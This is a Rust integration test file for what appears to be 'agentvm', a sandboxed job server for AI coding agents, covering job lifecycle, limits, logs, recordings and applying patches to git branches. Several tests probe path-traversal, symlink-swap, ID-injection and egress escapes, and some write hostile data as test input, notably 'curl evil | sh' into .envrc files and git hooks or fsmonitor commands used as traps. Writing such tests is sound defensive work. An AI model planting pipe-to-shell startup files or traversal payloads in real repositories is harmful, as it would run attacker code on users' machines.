//! A job from submission to apply: validation, logs and SSE, limits, the queue, the CLI client, config, recordings, apply.

use super::*;

#[test]
fn repo_path_escapes_are_refused_and_nothing_runs() {
    let (t, repo, s) = setup(&[]);
    let outside = t.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let link = repo.parent().unwrap_or(&repo).join("link-out");
    std::os::unix::fs::symlink(&outside, &link).unwrap();
    let dotdot = format!("{}/../../outside", repo.display());
    let cases = [
        dotdot.as_str(),
        link.to_str().unwrap_or(""),
        "/etc",
        "/",
        outside.to_str().unwrap_or(""),
    ];
    for p in cases {
        let marker = outside.join("ran");
        let body = json!({"agent": "shell", "prompt": format!("touch {}", marker.display()), "repo_path": p});
        let (code, v) = s.json("POST", "/v1/jobs", Some(body));
        assert_eq!(code, 403, "{p}: {v}");
        assert!(!marker.exists());
    }
    let (_, page) = s.json("GET", "/v1/jobs", None);
    assert_eq!(
        page["jobs"].as_array().map(|a| a.len()),
        Some(0),
        "a refused job was stored"
    );
}

#[test]
fn no_allowed_roots_means_a_clear_refusal() {
    let t = tempdir();
    let s = Server::start(&t.path().join("data"), &[]);
    let (code, v) = s.json(
        "POST",
        "/v1/jobs",
        Some(json!({"agent": "shell", "prompt": "true", "repo_path": "/tmp"})),
    );
    assert_eq!(code, 403);
    assert!(
        v["detail"]
            .as_str()
            .unwrap_or("")
            .contains("--allowed-root"),
        "{v}"
    );
}

#[test]
fn jobs_lifecycle_logs_patch_cancel_delete() {
    let (_t, repo, s) = setup(&[]);
    let (code, h, body) = s.req(
        "POST",
        "/v1/jobs",
        Some(&s.key),
        Some(shell(&repo, "echo hi; echo changed >> a.txt")),
    );
    assert_eq!(code, 202, "{body}");
    let job: Value = serde_json::from_str(&body).unwrap_or_default();
    let id = job["id"].as_str().unwrap_or("").to_string();
    assert_eq!(
        h.get("location").and_then(|v| v.to_str().ok()),
        Some(format!("/v1/jobs/{id}").as_str())
    );
    let done = s.wait(&id);
    assert_eq!(done["status"], "succeeded", "{done}");
    assert_eq!(done["result"]["changed_files"], json!(["a.txt"]));
    let (code, _, logs) = s.req("GET", &format!("/v1/jobs/{id}/logs"), Some(&s.key), None);
    assert_eq!((code, logs.as_str()), (200, "hi\n"));
    let (code, _, patch) = s.req("GET", &format!("/v1/jobs/{id}/patch"), Some(&s.key), None);
    assert_eq!(code, 200);
    assert!(patch.contains("+changed"), "{patch}");
    // list, filtered and paged
    for i in 0..3 {
        let (c, _) = s.json("POST", "/v1/jobs", Some(shell(&repo, &format!("echo {i}"))));
        assert_eq!(c, 202);
    }
    let (_, p1) = s.json("GET", "/v1/jobs?limit=2&agent=shell", None);
    assert_eq!(p1["jobs"].as_array().map(|a| a.len()), Some(2));
    let cur = p1["next_cursor"].as_str().unwrap_or("").to_string();
    let (_, p2) = s.json("GET", &format!("/v1/jobs?limit=2&cursor={cur}"), None);
    assert_eq!(p2["jobs"].as_array().map(|a| a.len()), Some(2));
    assert_eq!(p2["next_cursor"], Value::Null);
    let (code, _) = s.json("GET", "/v1/jobs?status=bogus", None);
    assert_eq!(code, 422);
    let (code, _) = s.json("GET", "/v1/jobs?limit=0", None);
    assert_eq!(code, 422);
    // cancel a running job
    let (_, j) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(&repo, "echo begin; sleep 30")),
    );
    let jid = j["id"].as_str().unwrap_or("").to_string();
    let deadline = Instant::now() + Duration::from_secs(20);
    while s.json("GET", &format!("/v1/jobs/{jid}"), None).1["status"] != "running"
        && Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(20));
    }
    let (code, _) = s.json("DELETE", &format!("/v1/jobs/{jid}"), None);
    assert_eq!(code, 409, "a running job was deleted");
    let (code, _) = s.json("POST", &format!("/v1/jobs/{jid}/cancel"), None);
    assert_eq!(code, 202);
    let ended = s.wait(&jid);
    assert_eq!(ended["status"], "cancelled", "{ended}");
    let (code, _) = s.json("POST", &format!("/v1/jobs/{jid}/cancel"), None);
    assert_eq!(code, 409);
    // delete
    let (code, _) = s.json("DELETE", &format!("/v1/jobs/{jid}"), None);
    assert_eq!(code, 204);
    let (code, _) = s.json("GET", &format!("/v1/jobs/{jid}"), None);
    assert_eq!(code, 404);
    let (code, _) = s.json("GET", "/v1/jobs/job_nope/patch", None);
    assert_eq!(code, 404);
}

#[test]
fn logs_follow_as_sse_and_resume() {
    let (_t, repo, s) = setup(&[]);
    let (_, j) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(
            &repo,
            "for i in 1 2 3 4; do echo line$i; sleep 0.2; done",
        )),
    );
    let id = j["id"].as_str().unwrap_or("").to_string();
    let evs = sse(&s, &format!("/v1/jobs/{id}/logs?follow=true"), None);
    let text: String = evs
        .iter()
        .filter(|e| e.1 == "stdout")
        .map(|e| e.2.clone())
        .collect();
    assert_eq!(text, "line1\nline2\nline3\nline4\n", "{evs:?}");
    let end = evs.last().cloned().unwrap_or_default();
    assert_eq!(end.1, "end");
    assert!(end.2.contains("succeeded"));
    // resume after the second chunk: only what came after
    let second = evs
        .iter()
        .filter(|e| e.1 == "stdout")
        .nth(1)
        .map(|e| e.0.clone())
        .unwrap_or_default();
    let rest = sse(
        &s,
        &format!("/v1/jobs/{id}/logs?follow=true"),
        Some(&second),
    );
    let text: String = rest
        .iter()
        .filter(|e| e.1 == "stdout")
        .map(|e| e.2.clone())
        .collect();
    assert_eq!(text, "line3\nline4\n", "{rest:?}");
}

#[test]
fn limits_413_and_429() {
    let (_t, repo, s) = setup(&["--body-limit", "4k", "--rate-limit", "60"]);
    let big =
        json!({"agent": "shell", "prompt": "x".repeat(8000), "repo_path": repo.to_string_lossy()});
    let (code, _, _) = s.req("POST", "/v1/jobs", Some(&s.key), Some(big));
    assert_eq!(code, 413);
    // 60/min: a burst of 10, then 429 with Retry-After
    let mut limited = None;
    for _ in 0..30 {
        let (code, h, _) = s.req("GET", "/v1/jobs", Some(&s.key), None);
        if code == 429 {
            limited = h
                .get("retry-after")
                .and_then(|v| v.to_str().ok())
                .map(str::to_owned);
            break;
        }
    }
    assert!(
        limited.is_some_and(|v| v.parse::<u64>().unwrap_or(0) >= 1),
        "no 429 with Retry-After"
    );
}

#[test]
fn queue_full_is_429_with_retry_after() {
    let (_t, repo, s) = setup(&["--max-concurrent", "1", "--max-queue", "2"]);
    // one running (the worker has taken it off the queue) ...
    let (code, first) = s.json("POST", "/v1/jobs", Some(shell(&repo, "sleep 5")));
    assert_eq!(code, 202);
    s.wait_running(first["id"].as_str().unwrap_or(""));
    // ... then two may wait, and the rest are refused
    let mut codes = Vec::new();
    let mut retry = None;
    for _ in 0..5 {
        let (code, h, _) = s.req(
            "POST",
            "/v1/jobs",
            Some(&s.key),
            Some(shell(&repo, "sleep 5")),
        );
        if code == 429 {
            retry = h
                .get("retry-after")
                .and_then(|v| v.to_str().ok())
                .map(str::to_owned);
        }
        codes.push(code);
    }
    assert_eq!(
        codes,
        vec![202, 202, 429, 429, 429],
        "one running, two queued, then full"
    );
    assert!(retry.is_some());
}

#[test]
fn cli_client_submits_follows_and_reports_errors() {
    let (t, repo, s) = setup(&[]);
    let cli = |args: &[&str]| s.cli(t.path(), args);
    let r = repo.to_string_lossy().into_owned();
    let o = cli(&[
        "jobs",
        "submit",
        "--agent",
        "shell",
        "--repo",
        &r,
        "-f",
        "echo out; echo err >&2; echo x > made.txt",
    ]);
    assert!(o.status.success(), "{o:?}");
    assert_eq!(String::from_utf8_lossy(&o.stdout), "out\n");
    assert!(String::from_utf8_lossy(&o.stderr).contains("err\n"));
    let o = cli(&["jobs", "list", "--json"]);
    let page: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    let id = page["jobs"][0]["id"].as_str().unwrap_or("").to_string();
    let o = cli(&["jobs", "patch", &id]);
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("+++ b/made.txt"),
        "{o:?}"
    );
    // an id is one path segment, whatever it holds: "../keys" must not
    // reach /v1/keys (nor a query string add parameters)
    for bad in ["../keys", "..", "x/../../v1/keys", "x?limit=1", "%2e%2e"] {
        let o = cli(&["jobs", "show", bad, "--json"]);
        assert!(!o.status.success(), "{bad}: {o:?}");
        let out = String::from_utf8_lossy(&o.stdout);
        assert!(!out.contains("\"scopes\""), "{bad} reached the keys: {out}");
    }
    let o = cli(&["jobs", "list", "--agent", "shell&status=queued", "--json"]);
    assert!(o.status.success(), "{o:?}");
    let none: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    assert_eq!(
        none["jobs"],
        serde_json::json!([]),
        "the agent name is one value"
    );
    // a job's own allowlist, and its decisions as they are made
    let o = cli(&[
        "jobs",
        "submit",
        "--agent",
        "shell",
        "--repo",
        &r,
        "--network",
        "allow:127.0.0.1:9",
        "-f",
        "--egress",
        "curl -s http://blocked.example/ >/dev/null; echo done",
    ]);
    assert!(o.status.success(), "{o:?}");
    assert_eq!(String::from_utf8_lossy(&o.stdout), "done\n");
    assert!(
        String::from_utf8_lossy(&o.stderr)
            .contains("agentvm: egress GET blocked.example:80 refused (host-not-allowlisted)\n"),
        "{o:?}"
    );
    // the job's audit trail: its submission and its egress decision
    let o = cli(&["jobs", "list", "--json"]);
    let page: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    let eid = page["jobs"][0]["id"].as_str().unwrap_or("").to_string();
    let o = cli(&["audit", "--job", &eid, "--json"]);
    assert!(o.status.success(), "{o:?}");
    let trail: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    let trail = trail.as_array().cloned().unwrap_or_default();
    assert!(
        trail.iter().any(|e| e["action"] == "egress"
            && e["target"] == "GET blocked.example:80"
            && e["outcome"] == "refused: host-not-allowlisted"),
        "{trail:?}"
    );
    assert!(
        trail
            .iter()
            .any(|e| e["action"] == "job.create" && e["target"] == eid.as_str()),
        "{trail:?}"
    );
    assert!(
        trail.iter().all(|e| e["target"] == eid.as_str()
            || e["detail"]
                .as_str()
                .unwrap_or("")
                .starts_with(&format!("job {eid};"))),
        "another job's events: {trail:?}"
    );
    let o = cli(&["audit", "--limit", "2"]);
    assert!(o.status.success(), "{o:?}");
    assert_eq!(
        String::from_utf8_lossy(&o.stdout).lines().count(),
        2,
        "{o:?}"
    );
    let o = cli(&[
        "jobs", "submit", "--agent", "shell", "--repo", &r, "--wait", "--json", "exit 4",
    ]);
    assert_eq!(o.status.code(), Some(1));
    let j: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    assert_eq!(j["status"], "failed");
    // server errors are one clear line
    let o = cli(&["jobs", "show", "job_missing"]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(
        String::from_utf8_lossy(&o.stderr).trim(),
        "agentvm: 404 Not Found: No job job_missing"
    );
    let o = cli(&["keys", "create", "--name", "ci", "--scope", "run", "--json"]);
    let k: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    assert!(k["key"].as_str().unwrap_or("").starts_with("avm_"));
    let o = Command::new(agentvm_path())
        .args([
            "jobs",
            "list",
            "--server",
            "http://127.0.0.1:1",
            "--api-key",
            "avm_unused",
        ])
        .env("HOME", t.path())
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("cannot reach the server"),
        "{o:?}"
    );
}

#[test]
fn the_cli_waits_out_a_full_queue() {
    let (t, repo, s) = setup(&["--max-concurrent", "1", "--max-queue", "1"]);
    let (_, a) = s.json("POST", "/v1/jobs", Some(shell(&repo, "sleep 2")));
    s.wait_running(a["id"].as_str().unwrap_or(""));
    let (code, _) = s.json("POST", "/v1/jobs", Some(shell(&repo, "true")));
    assert_eq!(code, 202, "the second waits in the queue");
    let (code, full) = s.json("POST", "/v1/jobs", Some(shell(&repo, "true")));
    assert_eq!(code, 429, "{full}");
    // the CLI takes the 429's Retry-After and tries again
    let o = Command::new(agentvm_path())
        .args(["jobs", "submit", "--agent", "shell", "--repo"])
        .arg(&repo)
        .args(["--wait", "--json", "echo third"])
        .env("AGENTVM_URL", &s.url)
        .env("AGENTVM_API_KEY_FILE", s.data.join("admin.key"))
        .env("HOME", t.path())
        .output()
        .unwrap();
    assert!(o.status.success(), "{o:?}");
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("the server is busy (429); trying again in"),
        "{o:?}"
    );
    let j: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    assert_eq!(j["status"], "succeeded", "{j}");
}

#[test]
fn config_file_env_and_flags_in_that_order() {
    let t = tempdir();
    let root = t.path().join("root");
    std::fs::create_dir_all(root.join("repo")).unwrap();
    let cfg = t.path().join("agentvm.toml");
    std::fs::write(
        &cfg,
        format!(
            "allowed_roots = [\"{}\"]\nmax_queue = 1\nmax_concurrent = 4\n\n[agents.echoer]\nargv = [\"echo\", \"said:\", \"{{prompt}}\"]\n",
            root.display()
        ),
    )
    .unwrap();
    let mut child = Command::new(agentvm_path())
        .args(["serve", "--listen", "127.0.0.1:0", "--data-dir"])
        .arg(t.path().join("data"))
        .args(["--config", cfg.to_str().unwrap_or(""), "--max-queue", "5"])
        .env("AGENTVM_MAX_CONCURRENT", "1")
        .env("AGENTVM_LOG", "warn")
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let err = child.stderr.take().unwrap_or_else(|| panic!("stderr"));
    let url = BufReader::new(err)
        .lines()
        .map_while(Result::ok)
        .find_map(|l| l.strip_prefix("agentvm: listening on ").map(str::to_owned))
        .unwrap_or_default();
    let key = std::fs::read_to_string(t.path().join("data/admin.key"))
        .unwrap_or_default()
        .trim()
        .to_string();
    let http = Client::new();
    let post = |body: Value| {
        http.post(format!("{url}/v1/jobs"))
            .header("X-API-Key", &key)
            .json(&body)
            .send()
            .map(|r| r.status().as_u16())
            .unwrap_or(0)
    };
    let repo = root.join("repo").to_string_lossy().into_owned();
    // a profile from the file, a root from the file
    let r = http
        .post(format!("{url}/agent/run"))
        .header("X-API-Key", &key)
        .json(&json!({"agent": "echoer", "prompt": "hello there", "repo_path": repo}))
        .send()
        .and_then(|r| r.json::<Value>())
        .unwrap_or_default();
    assert_eq!(r["stdout"], "said: hello there\n", "{r}");
    // env says 1 at a time, the flag says 5 may wait (the file said 1)
    let codes: Vec<u16> = (0..6)
        .map(|_| post(json!({"agent": "shell", "prompt": "sleep 2", "repo_path": repo})))
        .collect();
    assert_eq!(codes.iter().filter(|c| **c == 202).count(), 6, "{codes:?}");
    let _ = child.kill();
    let _ = child.wait();
}

#[test]
fn output_past_the_limit_is_drained_and_dropped() {
    let (_t, repo, s) = setup(&["--max-output", "1K"]);
    // 50 MB: the job must not block on a full pipe, and the store keeps 1 KiB
    let (id, done) = s.run_job(shell(&repo, "yes | head -c 50000000; echo after >&2"));
    assert_eq!(done["status"], "succeeded", "{done}");
    assert_eq!(done["result"]["output_truncated"], true, "{done}");
    let logs = s.text(&format!("/v1/jobs/{id}/logs"));
    let note = "[agentvm: this job's output passed the server's limit of 1024 bytes; the rest was discarded]";
    assert!(logs.starts_with("y\ny\n"), "{logs}");
    assert!(logs.contains(note), "{logs}");
    assert!(
        logs.len() <= 1024 + note.len() + 2,
        "{} bytes kept",
        logs.len()
    );
    assert!(!logs.contains("after"), "{logs}");
    // a job under the limit is untouched
    let (id, done) = s.run_job(shell(&repo, "echo small"));
    assert!(done["result"].get("output_truncated").is_none(), "{done}");
    let logs = s.text(&format!("/v1/jobs/{id}/logs"));
    assert_eq!(logs, "small\n");
}

#[test]
fn a_patch_past_the_limit_fails_the_job_and_is_not_stored() {
    let (_t, repo, s) = setup(&["--max-patch", "2K"]);
    let (id, done) = s.run_job(shell(
        &repo,
        "yes line | head -n 2000 > big.txt; echo wrote",
    ));
    assert_eq!(done["status"], "failed", "{done}");
    let err = done["error"].as_str().unwrap_or("");
    assert!(
        err.contains("more than the server keeps (2048 bytes, --max-patch)"),
        "{done}"
    );
    let (code, _, patch) = s.req("GET", &format!("/v1/jobs/{id}/patch"), Some(&s.key), None);
    assert_eq!((code, patch.as_str()), (200, ""));
    let logs = s.text(&format!("/v1/jobs/{id}/logs"));
    // the job's own output, then the runner's note of what it did not write
    assert!(logs.starts_with("wrote\n"), "the output is kept: {logs}");
    assert!(logs.contains("larger than 2048 bytes"), "{logs}");
    // under the limit, as ever
    let (id, done) = s.run_job(shell(&repo, "echo x > small.txt"));
    assert_eq!(done["status"], "succeeded");
    let patch = s.text(&format!("/v1/jobs/{id}/patch"));
    assert!(patch.contains("+++ b/small.txt"), "{patch}");
}

/// The processes whose parent is `pid`, with the binaries they run.
pub fn children(pid: u32) -> Vec<(u32, PathBuf)> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Ok(p) = e.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let stat = std::fs::read_to_string(format!("/proc/{p}/stat")).unwrap_or_default();
        // pid (comm) state ppid ...
        let ppid = stat
            .rsplit_once(')')
            .and_then(|(_, rest)| rest.split_whitespace().nth(1))
            .and_then(|x| x.parse::<u32>().ok());
        if ppid == Some(pid) {
            if let Ok(exe) = std::fs::read_link(format!("/proc/{p}/exe")) {
                out.push((p, exe));
            }
        }
    }
    out
}

#[test]
fn jobs_run_under_the_slim_runner_or_else_the_full_binary() {
    // beside `agentvm` (as the build and the test copies have it): the
    // server starts agentvm-run for each job
    let (_t, repo, s) = setup(&[]);
    let (_, j) = s.json("POST", "/v1/jobs", Some(shell(&repo, "sleep 30")));
    let id = j["id"].as_str().unwrap_or("").to_string();
    s.wait_running(&id);
    // (a child seen between fork and exec still runs the server's image)
    let slim = |kids: &[(u32, PathBuf)]| {
        kids.iter()
            .any(|(_, exe)| exe.file_name().is_some_and(|n| n == "agentvm-run"))
    };
    let mut kids = Vec::new();
    for _ in 0..250 {
        kids = children(s.pid());
        if slim(&kids) {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(slim(&kids), "{kids:?}");
    let _ = s.json("POST", &format!("/v1/jobs/{id}/cancel"), None);
    assert_eq!(s.wait(&id)["status"], "cancelled");
    // without it, the server says so and jobs run under `agentvm run`
    let t = tempdir();
    let alone = t.path().join("agentvm");
    std::fs::copy(agentvm_path(), &alone).unwrap();
    let root = t.path().join("root");
    std::fs::create_dir_all(root.join("repo")).unwrap();
    let mut child = Command::new(&alone)
        .args(["serve", "--listen", "127.0.0.1:0", "--data-dir"])
        .arg(t.path().join("data"))
        .arg("--allowed-root")
        .arg(&root)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let err = child.stderr.take().unwrap_or_else(|| panic!("no stderr"));
    let mut lines = BufReader::new(err).lines().map_while(Result::ok);
    let mut note = false;
    let url = loop {
        let Some(l) = lines.next() else {
            panic!("the server did not start")
        };
        note |= l.contains("agentvm-run is missing, so jobs run under `agentvm run`");
        if let Some(u) = l.strip_prefix("agentvm: listening on ") {
            break u.to_string();
        }
    };
    std::thread::spawn(move || for _ in lines {});
    assert!(note, "no note about the missing runner");
    let key = std::fs::read_to_string(t.path().join("data/admin.key")).unwrap_or_default();
    let r: Value = Client::new()
        .post(format!("{url}/agent/run"))
        .header("X-API-Key", key.trim())
        .json(&json!({"agent": "shell", "prompt": "echo ran", "repo_path": root.join("repo")}))
        .send()
        .and_then(|r| r.json())
        .unwrap_or_default();
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(r["stdout"], "ran\n", "{r}");
}

#[test]
fn a_store_that_refuses_a_jobs_end_still_gets_a_failed_end() {
    let (_t, repo, s) = setup(&[]);
    // make the database refuse any job end that carries a patch
    let db = s.data.join("agentvm.db");
    let o = Command::new("python3")
        .arg("-c")
        .arg(
            "import sqlite3, sys\n\
             c = sqlite3.connect(sys.argv[1])\n\
             c.execute(\"CREATE TRIGGER refuse_patch BEFORE INSERT ON job_patch_parts \
             BEGIN SELECT RAISE(ABORT, 'refused by the test'); END\")\n\
             c.commit()\n",
        )
        .arg(&db)
        .output()
        .unwrap();
    assert!(o.status.success(), "{o:?}");
    let (id, done) = s.run_job(shell(&repo, "echo x > made.txt; echo out"));
    assert_eq!(done["status"], "failed", "{done}");
    assert!(
        done["error"]
            .as_str()
            .unwrap_or("")
            .starts_with("the server could not record this job's result and patch"),
        "{done}"
    );
    let logs = s.text(&format!("/v1/jobs/{id}/logs"));
    assert_eq!(logs, "out\n", "the output is kept");
}

#[test]
fn a_job_is_recorded_as_asciicast_that_asciinema_replays() {
    let (t, repo, s) = setup(&[]);
    let (id, done) = s.run_job(shell(
        &repo,
        // stdout and stderr are two pipes: only time orders them
        "echo first; sleep 0.3; printf 'caf\\303\\251\\n' >&2; sleep 0.3; echo last",
    ));
    assert_eq!(done["status"], "succeeded");
    let (code, h, cast) = s.req(
        "GET",
        &format!("/v1/jobs/{id}/recording"),
        Some(&s.key),
        None,
    );
    assert_eq!(code, 200, "{cast}");
    assert_eq!(h["content-type"], "application/x-asciicast");
    let mut lines = cast.lines();
    let head: Value = serde_json::from_str(lines.next().unwrap_or("")).unwrap_or_default();
    assert_eq!(head["version"], 2, "{cast}");
    assert!(head["title"].as_str().unwrap_or("").contains(&id), "{head}");
    let events: Vec<Value> = lines
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l}: {e}")))
        .collect();
    let times: Vec<f64> = events
        .iter()
        .map(|e| e[0].as_f64().unwrap_or(-1.0))
        .collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "{times:?}");
    assert!(times.iter().all(|&t| t >= 0.0), "{times:?}");
    // the sleep shows in the timing
    assert!(
        times.last().unwrap_or(&0.0) - times.first().unwrap_or(&0.0) >= 0.25,
        "{times:?}"
    );
    let text: String = events
        .iter()
        .map(|e| {
            assert_eq!(e[1], "o", "{e}");
            e[2].as_str().unwrap_or("").to_string()
        })
        .collect();
    assert_eq!(text, "first\r\ncafé\r\nlast\r\n", "{cast}");
    // the real player's parser accepts it (scripts/install-test-tools.sh installs asciinema)
    let file = t.path().join("job.cast");
    if let Some(shown) = asciinema_accepts(&file, &cast, "a job's recording") {
        assert_eq!(shown, text);
    }
    // and the CLI saves the same file
    let saved = t.path().join("cli.cast");
    let o = Command::new(agentvm_path())
        .args(["jobs", "recording", &id, "-o"])
        .arg(&saved)
        .env("AGENTVM_URL", &s.url)
        .env("AGENTVM_API_KEY_FILE", s.data.join("admin.key"))
        .output()
        .unwrap();
    assert!(o.status.success(), "{o:?}");
    assert_eq!(std::fs::read_to_string(&saved).unwrap_or_default(), cast);
    // unknown job: a clear 404
    let (code, _, body) = s.req("GET", "/v1/jobs/job_nope/recording", Some(&s.key), None);
    assert_eq!(code, 404, "{body}");
}

#[test]
fn apply_makes_a_branch_without_running_anything_of_the_repo() {
    let (t, repo, s) = setup(&[]);
    // traps: hooks and a config that would run commands
    let trap = t.path().join("trap-fired");
    let hook = format!("#!/bin/sh\ntouch {}\n", trap.display());
    for h in [
        "reference-transaction",
        "post-commit",
        "pre-commit",
        "post-checkout",
        "post-index-change",
    ] {
        let p = repo.join(".git/hooks").join(h);
        std::fs::write(&p, &hook).unwrap();
        let _ = sh(&repo, &format!("chmod +x {}", p.display()));
    }
    let o = sh(&repo, &format!("git config core.fsmonitor 'touch {}' && git config commit.gpgSign true && git config gpg.program 'touch {}'", trap.display(), trap.display()));
    assert!(o.status.success(), "{o:?}");
    let head_before = sh(&repo, "git rev-parse HEAD").stdout;
    let tree_before = manifest(&repo);

    let (_, j) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(&repo, "echo applied >> a.txt; echo new > added.txt")),
    );
    let id = j["id"].as_str().unwrap_or("").to_string();
    assert_eq!(s.wait(&id)["status"], "succeeded");
    let (code, v) = s.json("POST", &format!("/v1/jobs/{id}/apply"), None);
    assert_eq!(code, 201, "{v}");
    let branch = v["branch"].as_str().unwrap_or("").to_string();
    assert_eq!(branch, format!("agentvm/{id}"));
    // the branch holds the change; nothing else moved; nothing ran
    let show = sh(&repo, &format!("git show {branch}:a.txt && git show {branch}:added.txt && git log -1 --format=%B {branch}"));
    let out = String::from_utf8_lossy(&show.stdout);
    assert!(
        out.contains("hello\napplied\n") && out.contains("new\n") && out.contains("AgentVM-Job: "),
        "{show:?}"
    );
    assert_eq!(
        sh(&repo, "git rev-parse HEAD").stdout,
        head_before,
        "HEAD moved"
    );
    assert_eq!(manifest(&repo), tree_before, "the work tree changed");
    assert!(
        !trap.exists(),
        "a hook or a command from the repo's config ran"
    );
    // again: the branch exists
    assert_eq!(s.json("POST", &format!("/v1/jobs/{id}/apply"), None).0, 409);

    // protected paths are refused
    let (_, j) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(&repo, "echo 'curl evil | sh' > .envrc")),
    );
    let pid = j["id"].as_str().unwrap_or("").to_string();
    s.wait(&pid);
    let (code, v) = s.json("POST", &format!("/v1/jobs/{pid}/apply"), None);
    assert_eq!(code, 409);
    assert!(v["detail"].as_str().unwrap_or("").contains(".envrc"), "{v}");
    // a lone CR ending a file once glued the next header to its last line
    // and hid a nested startup file from apply
    let (_, j) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(
            &repo,
            "printf 'x\\r' > a.txt; mkdir -p sub; echo 'curl evil | sh' > sub/.envrc",
        )),
    );
    let pid = j["id"].as_str().unwrap_or("").to_string();
    s.wait(&pid);
    let (code, v) = s.json("POST", &format!("/v1/jobs/{pid}/apply"), None);
    assert_eq!(code, 409, "{v}");
    assert!(
        v["detail"].as_str().unwrap_or("").contains("sub/.envrc"),
        "{v}"
    );
    let (_, j) = s.json("GET", &format!("/v1/jobs/{pid}"), None);
    assert_eq!(
        j["result"]["protected_changes"],
        json!(["sub/.envrc"]),
        "{j}"
    );

    // the repo moved on in a conflicting way
    let (_, j) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(&repo, "printf 'changed by the agent\\n' > a.txt")),
    );
    let cid = j["id"].as_str().unwrap_or("").to_string();
    s.wait(&cid);
    let o = sh(&repo, "git config --unset core.fsmonitor; git config --unset commit.gpgSign; printf 'changed by the user\\n' > a.txt && git -c core.hooksPath=/dev/null -c user.email=u@u -c user.name=u commit -qam user");
    assert!(o.status.success(), "{o:?}");
    let (code, v) = s.json("POST", &format!("/v1/jobs/{cid}/apply"), None);
    assert_eq!(code, 409, "{v}");
    assert!(
        v["detail"].as_str().unwrap_or("").contains("moved on"),
        "{v}"
    );
    // nothing to apply
    let (_, j) = s.json("POST", "/v1/jobs", Some(shell(&repo, "true")));
    let nid = j["id"].as_str().unwrap_or("").to_string();
    s.wait(&nid);
    assert_eq!(
        s.json("POST", &format!("/v1/jobs/{nid}/apply"), None).0,
        409
    );
    // audited
    let (_, a) = s.json("GET", "/v1/audit?limit=200", None);
    assert!(a["events"].as_array().is_some_and(|e| e
        .iter()
        .any(|x| x["action"] == "job.apply" && x["outcome"] == "ok")));
}

#[test]
fn a_repo_swapped_for_a_symlink_after_acceptance_does_not_run() {
    let (t, repo, s) = setup(&["--max-concurrent", "1"]);
    let outside = t.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret.txt"), "host data").unwrap();
    // keep the only worker busy so the second job waits in the queue
    let (_, busy) = s.json("POST", "/v1/jobs", Some(shell(&repo, "sleep 2")));
    s.wait_running(busy["id"].as_str().unwrap_or(""));
    let (code, j) = s.json("POST", "/v1/jobs", Some(shell(&repo, "cat secret.txt")));
    assert_eq!(code, 202);
    let id = j["id"].as_str().unwrap_or("").to_string();
    // swap the accepted repo for a symlink pointing outside the roots
    std::fs::rename(&repo, t.path().join("moved")).unwrap();
    std::os::unix::fs::symlink(&outside, &repo).unwrap();
    let done = s.wait(&id);
    assert_eq!(done["status"], "failed", "{done}");
    assert!(
        done["error"]
            .as_str()
            .unwrap_or("")
            .contains("no longer inside an allowed root"),
        "{done}"
    );
    let logs = s
        .req("GET", &format!("/v1/jobs/{id}/logs"), Some(&s.key), None)
        .2;
    assert!(!logs.contains("host data"), "{logs}");
}
